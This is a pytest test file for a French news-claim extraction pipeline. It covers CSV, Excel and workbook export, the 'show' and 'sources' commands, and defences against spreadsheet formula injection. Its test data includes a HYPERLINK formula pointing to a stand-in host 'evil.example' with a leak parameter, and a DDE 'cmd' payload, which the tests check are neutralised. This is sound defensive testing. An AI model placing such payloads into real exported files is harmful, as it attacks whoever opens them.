"""Analyst outputs: safe cells, the spreadsheet CSV variant, the workbook, `export`,
`show` and `sources`."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys

import openpyxl
import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.export import read_columns, read_table
from pipeline.export.workbook import REVIEW_COLUMNS, write_workbook
from pipeline.safe import SafeDictWriter, is_number, neutralise, safe_row
from pipeline.tables import COLUMNS

from .conftest import SHARED

runner = CliRunner()
WIDE = {"COLUMNS": "220"}  # rich tables on one line per row, so phrases stay whole
HYPERLINK = '=HYPERLINK("http://evil.example/x?leak=1","Cliquez ici")'
INJECTED_ARTICLE = (
    "International\n\n"
    f"{HYPERLINK}\n\n"
    "Selon l'AFP, 12 personnes ont été blessées lors de l'incendie à Besançon.\n\n"
    "+33 1 23 45 67 89 est le numéro indiqué par la préfecture.\n"
)


# --- safe cells ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]
)
def test_formula_triggers_are_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["-3", "+2,5", "-0.18", "15000", "KCNA", "", "l'agence", "'=x"])
def test_numbers_and_plain_text_are_unchanged(text):
    assert neutralise(text) == text


def test_ids_and_numeric_columns_are_never_touched():
    row = {"doc_id": "=evil", "start": "-3", "value": "-3", "approx": "true", "text": "=1+1"}
    assert safe_row(row) == {**row, "text": "'=1+1"}
    assert is_number("-3") and not is_number("-3 soldats")


def test_safe_writer_is_byte_identical_to_the_contract_on_ordinary_rows(sample_out):
    for table, columns in COLUMNS.items():
        rows = read_table(sample_out, table)
        plain, safe = io.StringIO(), io.StringIO()
        w = csv.DictWriter(plain, fieldnames=columns, lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
        s = SafeDictWriter(safe, columns)
        s.writeheader()
        s.writerows(rows)
        assert safe.getvalue() == plain.getvalue(), table
        assert safe.getvalue() == (sample_out / f"{table}.csv").read_text(encoding="utf-8")


# --- a run with an injected formula: default CSV, --excel, --xlsx ----------------------


@pytest.fixture(scope="module")
def injected_corpus(tmp_path_factory):
    corpus = tmp_path_factory.mktemp("injected")
    (corpus / "piege.txt").write_text(INJECTED_ARTICLE, encoding="utf-8")
    return corpus


@pytest.fixture(scope="module")
def injected_runs(injected_corpus, tmp_path_factory, nlp):
    """The same corpus run twice: default options, and --excel --xlsx."""
    plain, excel = tmp_path_factory.mktemp("plain"), tmp_path_factory.mktemp("excel")
    for out, extra in ((plain, []), (excel, ["--excel", "--xlsx"])):
        result = runner.invoke(app, ["run", str(injected_corpus), "--out", str(out), *extra])
        assert result.exit_code == 0, result.output
    return plain, excel


def test_default_csv_stays_the_contract_with_the_formula_inert(injected_runs):
    plain, _ = injected_runs
    raw = (plain / "documents.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert raw.startswith(b"doc_id,path,title,")
    doc = read_table(plain, "documents")[0]
    assert doc["title"] == "'" + HYPERLINK
    assert doc["doc_id"] == "piege"
    cells = [c for name in COLUMNS for r in read_table(plain, name) for c in r.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "@")) and not is_number(c)]
    checker = SHARED / "tools" / "check_tables.py"
    if checker.exists():
        result = subprocess.run([sys.executable, str(checker), str(plain)], capture_output=True)
        assert result.returncode == 0, result.stdout.decode()


def test_excel_csv_has_bom_semicolons_accents_and_inert_formula(injected_runs):
    plain, excel = injected_runs
    raw = (excel / "claims.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfdoc_id;claim_id;sent_id;")
    text = (excel / "documents.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert rows[0]["title"] == "'" + HYPERLINK
    claims = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert claims == read_table(plain, "claims")  # same content, other dialect
    assert read_table(excel, "claims") == claims  # read_table tells the dialects apart
    assert any("blessées" in c["text"] for c in claims)


def test_workbook_of_the_injected_run_holds_text_not_formulas(injected_runs):
    _, excel = injected_runs
    book = openpyxl.load_workbook(excel / "claims.xlsx")
    sheet = book["documents"]
    header = [c.value for c in sheet[1]]
    title = sheet.cell(2, header.index("title") + 1)
    assert title.data_type == "s" and title.value == "'" + HYPERLINK
    formulas = [
        c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []


# --- the workbook of the sample run ----------------------------------------------------


@pytest.fixture(scope="module")
def sample_book(sample_out, tmp_path_factory):
    path = write_workbook(sample_out, tmp_path_factory.mktemp("book") / "claims.xlsx")
    return openpyxl.load_workbook(path)


def _sheet_rows(sheet) -> list[dict]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def test_workbook_sheets_headers_and_layout(sample_book, sample_out):
    assert sample_book.sheetnames == [
        "review",
        "documents",
        "claims",
        "figures",
        "entities",
        "sources",
    ]
    for name in sample_book.sheetnames:
        sheet = sample_book[name]
        assert sheet.freeze_panes == "A2", name
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:"), name
        assert all(c.font.b for c in sheet[1]), name
        widths = [d.width for d in sheet.column_dimensions.values()]
        assert widths and all(6 <= w <= 61 for w in widths), name
    for name in ("documents", "claims", "figures", "entities", "sources"):
        assert [c.value for c in sample_book[name][1]] == read_columns(sample_out, name)
        assert sample_book[name].max_row == len(read_table(sample_out, name)) + 1


def test_workbook_numbers_and_booleans_are_typed(sample_book):
    figures = _sheet_rows(sample_book["figures"])
    soldiers = next(f for f in figures if f["text"] == "environ 15 000 soldats")
    assert soldiers["value"] == 15000 and isinstance(soldiers["value"], int)
    assert soldiers["approx"] is True
    assert isinstance(soldiers["start"], int) and soldiers["start"] < soldiers["end"]
    claims = _sheet_rows(sample_book["claims"])
    assert all(isinstance(c["negated"], bool) for c in claims)
    assert any(c["negated"] for c in claims)  # "rien n'indique…"
    assert all(isinstance(c["sent_id"], int) for c in claims)
    docs = _sheet_rows(sample_book["documents"])
    assert isinstance(docs[0]["n_claims"], int) and docs[0]["n_claims"] == len(claims)
    assert sample_book["claims"]["F2"].alignment.wrap_text  # long text wraps


def test_review_sheet_joins_claims_with_figures_and_entities(sample_book, sample_out):
    review = _sheet_rows(sample_book["review"])
    assert list(review[0]) == REVIEW_COLUMNS
    assert len(review) == len(read_table(sample_out, "claims"))
    assert all(r["verdict"] is None and r["comment"] is None for r in review)
    soldiers = next(r for r in review if r["figures"] and "environ 15 000 soldats" in r["figures"])
    assert soldiers["source_name"] == "Service national de renseignement sud-coréen"
    assert any(r["entities"] and "Russie" in r["entities"] for r in review)


# --- export, show, sources -------------------------------------------------------------


def test_export_writes_workbook_report_and_excel_copy(sample_out, tmp_path):
    out = tmp_path / "out"
    shutil.copytree(sample_out, out)
    before = (out / "claims.csv").read_bytes()
    result = runner.invoke(app, ["export", str(out), "--xlsx", "--excel", "--report"])
    assert result.exit_code == 0, result.output
    assert (out / "claims.xlsx").exists() and (out / "report.html").exists()
    assert (out / "excel" / "claims.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert (out / "claims.csv").read_bytes() == before  # the contract files stay as they were


def test_export_of_a_folder_without_tables_exits_2(tmp_path):
    result = runner.invoke(app, ["export", str(tmp_path), "--xlsx"])
    assert result.exit_code == 2
    assert "documents.csv: missing" in result.output


def test_show_filters_by_source_and_kind(sample_out):
    result = runner.invoke(
        app, ["show", str(sample_out), "--source", "nis", "--kind", "figures"], env=WIDE
    )
    assert result.exit_code == 0, result.output
    assert "environ 15 000 soldats" in result.output and "1000000000" in result.output
    assert "doubler" not in result.output  # KCNA's figure is filtered out
    result = runner.invoke(app, ["show", str(sample_out), "-s", "KCNA"], env=WIDE)
    assert result.exit_code == 0, result.output
    assert "ont rapporté" in result.output and "suggèrent" not in result.output


def test_show_filters_by_document_and_limits(sample_out):
    result = runner.invoke(app, ["show", str(sample_out), "--doc", "kim-obus-2025"], env=WIDE)
    assert result.exit_code == 0 and "c1" in result.output
    result = runner.invoke(app, ["show", str(sample_out), "--doc", "nope"], env=WIDE)
    assert result.exit_code == 0 and "0 claims" in result.output
    result = runner.invoke(app, ["show", str(sample_out), "-n", "1"], env=WIDE)
    assert "more rows" in result.output


def test_show_rejects_a_bad_kind_or_folder(sample_out, tmp_path):
    assert runner.invoke(app, ["show", str(sample_out), "--kind", "nope"]).exit_code == 2
    assert runner.invoke(app, ["show", str(tmp_path / "missing")]).exit_code == 2


def test_sources_lists_the_registry_and_extensions(tmp_path):
    extra = tmp_path / "mine.csv"
    extra.write_text(
        "id,name,type,aliases\nlemonde,Le Monde,media,Le Monde|le quotidien du soir\n",
        encoding="utf-8",
    )
    result = runner.invoke(app, ["sources", "--sources", str(extra)], env=WIDE)
    assert result.exit_code == 0, result.output
    assert "Service national de renseignement sud-coréen" in result.output
    assert "nis" in result.output and "intelligence" in result.output
    assert "lemonde" in result.output and "le quotidien du soir" in result.output


def test_sources_names_file_and_line_of_a_malformed_row(tmp_path):
    extra = tmp_path / "bad.csv"
    extra.write_text(
        "id,name,type,aliases\nok,OK,media,\nbroken,Broken,newspaper,\n", encoding="utf-8"
    )
    result = runner.invoke(app, ["sources", "--sources", str(extra)], env=WIDE)
    assert result.exit_code == 2
    assert f"{extra}:3" in result.output and "newspaper" in result.output


def test_every_new_command_has_help_with_an_example():
    for cmd in ("export", "show", "sources"):
        result = runner.invoke(app, [cmd, "--help"])
        assert result.exit_code == 0
        assert "Example:" in result.output


def test_parquet_tables_read_back_like_the_csv(sample_out, tmp_path):
    pa = pytest.importorskip("pyarrow")
    pq = pytest.importorskip("pyarrow.parquet")
    from pipeline.safe import BOOL_COLUMNS, NUMERIC_COLUMNS

    def typed(column: str, value: str):
        if value == "":
            return None
        if column in BOOL_COLUMNS:
            return value == "true"
        if column in ("value", "value_max"):
            return float(value)
        return int(value) if column in NUMERIC_COLUMNS else value

    for name in COLUMNS:
        rows = read_table(sample_out, name)
        columns = read_columns(sample_out, name)
        table = pa.Table.from_pylist([{c: typed(c, r[c]) for c in columns} for r in rows])
        pq.write_table(table, tmp_path / f"{name}.parquet")
        assert read_table(tmp_path, name) == rows, name
    shutil.copy(sample_out / "texts.jsonl", tmp_path)
    result = runner.invoke(app, ["export", str(tmp_path), "--xlsx", "--excel", "--report"])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "excel" / "figures.csv").read_text(encoding="utf-8-sig").count(";") > 10
    assert openpyxl.load_workbook(tmp_path / "claims.xlsx")["figures"].max_row > 1
